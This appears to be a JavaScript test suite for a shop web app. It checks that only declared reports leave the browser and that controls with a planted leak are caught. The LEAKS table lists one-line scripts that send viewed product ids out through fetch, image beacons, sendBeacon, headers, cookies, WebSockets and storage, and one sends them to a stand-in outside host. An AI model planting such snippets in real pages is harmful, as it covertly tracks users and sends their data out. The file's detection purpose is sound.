// Nothing but declared reports leaves, and nothing in clear is kept: a trip of 1,000 interactions with everything
// switched on, all of it on a wire of our own. Each control is the same shop with one leak, before the same judge.
import { bytesKept, differences, judge } from './lib/egress.mjs';
import { ownFiles } from './lib/network.mjs';
import { startProxy } from './lib/proxy.mjs';
import { expect, test } from './lib/test.mjs';
import { trip } from './lib/trip.mjs';

/** A minute or two: longer than it takes to do a day's shopping here, shorter than a real shop's. */
const DELAY = (text) => text.replace(/delay: \[\d+, \d+\]/, 'delay: [60_000, 120_000]');

const SHORT = { days: 1, deeds: 12, everywhere: false };

/** A shopper of its own, with a browser profile of its own. @param {{ leak?: string, edit?: (text: string) => string }} [twin] */
async function shopper(browser, server, plan, { leak, edit = DELAY } = {}) {
  const proxy = await startProxy(server.url, { '/profile.js': edit }, { policy: leak === undefined });
  const context = await browser.newContext({ proxy: proxy.option });
  try {
    if (leak) await context.addInitScript(`addEventListener('hashchange', () => { const [, id] = /product.(\\w+)/.exec(location.hash) ?? []; if (id) { ${leak}; } })`);
    const made = { seen: proxy.seen, ...await trip(context, { ...plan, base: server.url, seen: proxy.seen }) };
    const kept = await bytesKept(made.page);
    const files = new Set([...ownFiles(), '/?debug&popular=1']);
    return { made, kept, wrong: judge(made, kept, { base: server.url, files }) };
  } finally {
    await context.close();
    await proxy.stop();
  }
}

test('of 1,000 interactions only the declared reports leave, and two shoppers look alike from outside', async ({ browser, server }) => {
  test.setTimeout(240_000); // a stop for what hangs, not a measure
  const { made, kept, wrong } = await shopper(browser, server, { seed: 1, days: 3, deeds: 320 });
  expect(wrong).toEqual([]);
  expect(made.interactions).toBeGreaterThan(1000);
  expect(kept.filter(({ where }) => where === 'indexedDB homebody/log').length).toBeGreaterThan(1000);
  const reports = made.seen.filter(({ method }) => method === 'POST').map(({ body }) => JSON.parse(body));
  expect(reports.length).toBe(3 * 5);
  expect(new Set(reports.map(({ day }) => day)).size).toBe(3);
  // The wire is the whole of it: the server has seen as many requests, and no other.
  const logged = (await server.accessLog()).map((line) => line.replace(/ \d+$/, '')).sort();
  expect(logged).toEqual(made.seen.map(({ method, url }) => `${method} ${new URL(url).pathname}`).sort());

  const other = await shopper(browser, server, { seed: 2, days: 3, deeds: 24 });
  expect(other.wrong).toEqual([]);
  expect(differences(made, other.made)).toEqual([]);
  expect([...made.done.ids].filter((id) => other.made.done.ids.has(id)).length, 'the control: they did other things').toBeLessThan(100);
});

/**
 * What another script on the page does with each product that is opened, and the complaint that must come of it. The
 * shop's Content-Security-Policy, which forbids some of them, is taken away.
 */
const LEAKS = {
  'a fetch of its address': ["fetch('/product/' + id)", /product\/\d+: is neither/],
  'the address of a picture': ["new Image().src = '/seen.png?item=' + id", /tells of the item \d+/],
  'a query, with the words of the search': ["fetch('/dom.js?' + new URLSearchParams({ q: document.getElementById('words').value, id }))", /tells of the search "gluten/],
  'a header': ["fetch('/dom.js', { headers: { 'x-seen': id } })", /header x-seen: \d+/],
  'a beacon': ["navigator.sendBeacon('/v1/reports', id)", /reports: is not in the ledger/],
  'a fetch that outlives the page': ["fetch('/v1/reports', { method: 'POST', keepalive: true, body: id.padEnd(2048) })", /reports: is not in the ledger/],
  'a cookie': ["document.cookie = 'seen=' + id", /cookie seen holds \d+/],
  'a WebSocket': ["new WebSocket('ws://' + location.host + '/' + id)", /CONNECT .*is neither/],
  'the address of a worker': ["new Worker('/dom.js?' + id, { type: 'module' })", /dom\.js\?\d+: is neither/],
  'an address elsewhere': ["fetch('http://elsewhere.example/' + id, { mode: 'no-cors' })", /elsewhere\.example\/\d+: is not the shop/],
  'localStorage': ["localStorage.setItem('seen', id)", /localStorage seen holds \d+/],
  'a cache': ["caches.open('seen').then((cache) => cache.put('/' + id, new Response('')))", /cache seen holds \d+/],
};

for (const [name, [leak, complaint]] of Object.entries(LEAKS)) {
  test(`control: an item in ${name} is found out`, async ({ browser, server }) => {
    const { wrong } = await shopper(browser, server, { ...SHORT, seed: 3 }, { leak });
    expect(wrong.filter((text) => complaint.test(text))).not.toEqual([]);
  });
}

test('control: without a leak the short trip of the controls passes', async ({ browser, server }) => {
  const { wrong } = await shopper(browser, server, { ...SHORT, seed: 3 });
  expect(wrong).toEqual([]);
});

test('control: reports that go at once are found out', async ({ browser, server }) => {
  const edit = (text) => text.replace(/delay: \[\d+, \d+\]/, 'delay: [0, 0]');
  const { wrong } = await shopper(browser, server, { ...SHORT, seed: 3 }, { edit });
  expect(wrong.filter((text) => /while the shopper was doing something/.test(text))).not.toEqual([]);
});

test('control: a file that is fetched for some products only is a difference', async ({ browser, server }) => {
  const one = await shopper(browser, server, { ...SHORT, seed: 3 });
  const other = await shopper(browser, server, { ...SHORT, seed: 4 }, { leak: "fetch('/merchant.html')" });
  expect(other.wrong).toEqual([]);
  expect(differences(one.made, other.made)).toEqual(['GET /merchant.html']);
});
